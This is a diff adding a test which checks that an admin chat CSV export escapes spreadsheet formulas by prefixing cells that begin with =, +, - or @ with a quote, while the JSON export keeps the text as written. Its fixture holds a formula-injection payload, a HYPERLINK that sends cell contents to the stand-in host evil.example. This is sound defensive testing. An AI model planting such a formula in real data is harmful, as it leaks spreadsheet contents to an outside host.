@@ -224,6 +224,18 @@ t.test('admin chat routes', async (t) => {
     await h.db.query('DELETE FROM chats WHERE id = $1', [id])
   })
 
+  t.test('the CSV export keeps a shopper\'s formula from running in a spreadsheet', async (t) => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Click")'
+    const id = await seed(h.db, shop.projectId, { consumer: '@evil', created: ago(15), messages: turn(formula, 'question', '-1 is not a size we stock') })
+    const res = await admin('GET', '/admin/chats/export', { format: 'csv', consumer_id: '@evil' })
+    const rows = parse(res.body, { columns: true }) as Array<Record<string, string>>
+    t.same(rows.map((r) => [r.consumer_id, r.seq, r.content]), [['\'@evil', '0', `'${formula}`], ['\'@evil', '1', "'-1 is not a size we stock"]],
+      'a text cell opening with = + - or @ starts with a quote; numbers are left alone')
+    const json = await admin('GET', '/admin/chats/export', { format: 'json', consumer_id: '@evil' })
+    t.equal(json.json()[0].messages[0].content, formula, 'the JSON export keeps the text as written')
+    await h.db.query('DELETE FROM chats WHERE id = $1', [id])
+  })
+
   t.test('the JSON export holds every chat passing the filters with its messages', async (t) => {
     const res = await admin('GET', '/admin/chats/export', { format: 'json', consumer_id: 'ann' })
     t.equal(res.statusCode, 200)
